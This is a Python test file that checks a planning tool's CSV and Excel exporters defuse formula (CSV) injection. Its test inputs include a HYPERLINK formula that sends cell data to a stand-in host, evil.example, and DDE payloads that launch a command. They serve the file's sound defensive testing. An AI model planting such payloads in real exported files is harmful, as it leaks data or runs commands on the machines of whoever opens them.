"""No export or report carries a live formula (OWASP CSV injection): text from plans and sources
that starts with =, +, -, @, a tab or a carriage return is written as text; numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from plantrack.export import CsvExporter, XlsxExporter
from plantrack.export.analysis_xlsx import findings_workbook
from plantrack.export.formulas import csv_cell, formula_like, neutralise_workbook

ATTACKS = ['=HYPERLINK("http://evil.example/?d="&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
           "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_like_text_is_recognised_and_prefixed_in_csv(text):
    assert formula_like(text)
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-3.5", "+2", "-1,234.5", "-0.8%", "1e-3", "森林覆盖率", "", None, -3.5, 7, "a=b"])
def test_numbers_and_plain_text_are_left_alone(value):
    assert not formula_like(value)
    assert csv_cell(value) == value


def _plan(name: str, base_value: float) -> dict:
    return {"title": "@测试规划", "indicators": [
        {"name": name, "unit": "%", "base_year": 2020, "base_value": base_value, "target_year": 2025,
         "target_value": -1.5, "target_text": "-1.5", "binding": "binding", "category": "=1+1", "line": 12},
    ], "reviews": [{"title": "回顾", "line": 3, "rows": [{"name": "+手工输入", "line": 4}]}]}


def test_csv_export_prefixes_formula_text_and_keeps_negative_numbers():
    out = io.BytesIO()
    CsvExporter().write(_plan("=cmd|' /C calc'!A0", -2.5), out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue().decode("utf-8-sig"))))
    assert rows[0]["name"] == "'=cmd|' /C calc'!A0"
    assert rows[0]["category"] == "'=1+1"
    assert (rows[0]["base_value"], rows[0]["target_value"], rows[0]["target_text"]) == ("-2.5", "-1.5", "-1.5")


def _cells(data: bytes) -> list:
    wb = load_workbook(io.BytesIO(data))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def test_xlsx_export_has_no_formula_cells_and_keeps_numbers():
    out = io.BytesIO()
    XlsxExporter().write(_plan(ATTACKS[0], -2.5), out)
    cells = _cells(out.getvalue())
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    name = next(c for c in cells if c.value == ATTACKS[0])
    assert name.data_type == "s" and name.quotePrefix
    assert next(c for c in cells if c.value == "+手工输入").quotePrefix
    numbers = [c.value for c in cells if c.data_type == "n"]
    assert -2.5 in numbers and -1.5 in numbers


def test_analysis_workbooks_carry_no_formulas():
    data = findings_workbook("=key", [{"kind": "=kind", "severity": "high", "message": "-1+1", "lines": [3]}])
    cells = _cells(data)
    assert [c.value for c in cells if c.data_type == "f"] == []
    assert {c.value for c in cells if c.quotePrefix} == {"=key", "=kind", "-1+1"}


def test_neutralise_workbook_turns_formulas_into_text():
    wb = Workbook()
    wb.active.append(["=1+2", -4, "-4"])
    buf = io.BytesIO()
    neutralise_workbook(wb).save(buf)
    a, b, c = _cells(buf.getvalue())
    assert (a.value, a.data_type, a.quotePrefix) == ("=1+2", "s", True)
    assert (b.value, b.data_type) == (-4, "n")
    assert (c.value, c.quotePrefix) == ("-4", False)
